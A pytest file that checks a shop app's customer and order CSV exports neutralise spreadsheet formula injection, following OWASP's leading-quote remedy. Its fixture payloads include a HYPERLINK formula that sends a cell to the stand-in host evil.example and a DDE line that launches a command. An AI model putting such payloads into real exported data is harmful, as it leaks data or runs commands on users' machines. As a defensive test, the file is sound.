"""CSV injection (issue 20, item 5): a customer's name or an order's text that a spreadsheet
would run as a formula leaves every export as text.

The trigger characters (`=`, `+`, `-`, `@`, tab, carriage return) and the leading-quote
remedy are OWASP's (owasp.org/www-community/attacks/CSV_Injection)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from careloop.context import AppContext
from careloop.core.csv_safe import TRIGGERS, safe_cell, unquote_cell
from careloop.customers.export import write_customers_csv
from careloop.customers.models import Customer
from careloop.customers.schemas import CustomerIn
from careloop.customers.service import upsert_customer
from careloop.imports.customers import import_customers
from careloop.orders.export import write_orders_csv
from careloop.orders.schemas import OrderIn, OrderLineIn
from careloop.orders.service import upsert_order
from careloop.shops.models import Shop

SRC = Path(__file__).resolve().parents[2] / "src" / "careloop"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Mai")'
PAYLOADS = {
    "name": FORMULA_NAME,
    "email": "@SUM(1+1)@example.com",
    "product_name": "+cmd|' /C calc'!A0",
    "sku": "-2+3",
    "shipping_address": "\t=1+1",
}


def _seed(ctx: AppContext, shop: Shop) -> None:
    with ctx.sessions() as s, s.begin():
        upsert_customer(
            session=s,
            clock=ctx.clock,
            shop=s.merge(shop),
            data=CustomerIn(customer_id="C-1", name=PAYLOADS["name"], phone="+84901234567"),
        )
        upsert_order(
            session=s,
            clock=ctx.clock,
            shop=s.merge(shop),
            data=OrderIn(
                order_id="DH-1",
                customer_id="C-1",
                placed_at=ctx.clock.now(),
                total=Decimal(180000),
                shipping_address=PAYLOADS["shipping_address"],
                lines=[
                    OrderLineIn(
                        sku=PAYLOADS["sku"],
                        product_name=PAYLOADS["product_name"],
                        unit_price=Decimal(180000),
                    )
                ],
            ),
        )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("export", [write_customers_csv, write_orders_csv])
def test_no_exported_cell_starts_with_a_formula_character(
    ctx: AppContext, shop: Shop, export: object
) -> None:
    _seed(ctx, shop)
    out = io.StringIO()
    with ctx.sessions() as s:
        export(s, s.merge(shop), out)  # type: ignore[operator]
    cells = _cells(out.getvalue())
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'\t") for c in cells)


def test_an_exported_customer_imports_back_unchanged(
    ctx: AppContext, shop: Shop, tmp_path: Path
) -> None:
    _seed(ctx, shop)
    path = tmp_path / "customers.csv"
    with ctx.sessions() as s, path.open("w", encoding="utf-8", newline="") as out:
        write_customers_csv(s, s.merge(shop), out)
    with ctx.sessions() as s, s.begin():
        s.query(Customer).filter(Customer.shop_id == shop.id).update({"name": "changed"})
    import_customers(ctx, shop, path, progress=False)
    with ctx.sessions() as s:
        customer = s.query(Customer).filter_by(shop_id=shop.id, external_id="C-1").one()
        assert customer.name == FORMULA_NAME and customer.phone == "+84901234567"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "'plain", "ok"])
def test_quoting_a_cell_and_reading_it_back_gives_the_same_text(text: str) -> None:
    assert unquote_cell(safe_cell(text)) == text


def test_every_csv_writer_in_the_product_is_the_safe_one() -> None:
    """A new export written with csv.writer / DictWriter directly would skip the quoting."""
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "csv_safe.py" and raw.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
